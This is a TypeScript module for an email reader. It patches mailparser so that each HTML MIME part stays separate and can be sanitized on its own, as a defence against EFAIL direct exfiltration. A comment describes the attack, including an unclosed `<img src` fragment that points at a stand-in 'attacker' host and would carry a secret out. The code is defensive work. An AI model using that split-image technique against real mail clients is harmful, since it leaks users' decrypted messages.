// Keeps a message's HTML parts apart: mailparser joins every inline text part into one `html` string, and the reader
// must be able to sanitize each part as a document of its own (security.md B11, EFAIL "direct exfiltration").

import type { MailParser, MessageText } from 'mailparser';
import { HTML_PART_BREAK } from '../../shared/html-parts';

/** The slice of mailparser's internal MIME tree read here (mailparser is pinned; the EFAIL corpus test fails if this changes). */
interface ParserNode {
  contentType?: string;
  textContent?: string;
  children?: ParserNode[];
}

interface ParserInternals {
  tree?: ParserNode;
  getTextContent(): MessageText;
}

function htmlNodes(node: ParserNode | undefined, found: ParserNode[] = []): ParserNode[] {
  if (!node) return found;
  if (node.contentType === 'text/html' && node.textContent) found.push(node);
  for (const child of node.children ?? []) htmlNodes(child, found);
  return found;
}

/**
 * Without this, `<img src="https://attacker/?` in one part, the secret in the next and `">` in a third become one
 * image URL holding the secret. mailparser joins the parts with `<br/>\n` (text/plain ones escaped first) when it
 * builds `html`: here each HTML part is wrapped in HTML_PART_BREAK just before, so every part, and whatever lies
 * between two of them, ends up between breaks. HTML that is a single part comes out exactly as before.
 */
export function keepHtmlPartsApart(parser: MailParser): void {
  const internals = parser as unknown as ParserInternals;
  const join = internals.getTextContent.bind(parser);
  internals.getTextContent = () => {
    const nodes = htmlNodes(internals.tree);
    const only = nodes.length === 1 ? (nodes[0]?.textContent ?? null) : null;
    for (const node of nodes) node.textContent = `${HTML_PART_BREAK}${node.textContent ?? ''}${HTML_PART_BREAK}`;
    const joined = join();
    if (only !== null && joined.html === `${HTML_PART_BREAK}${only}${HTML_PART_BREAK}`) joined.html = only;
    return joined;
  };
}
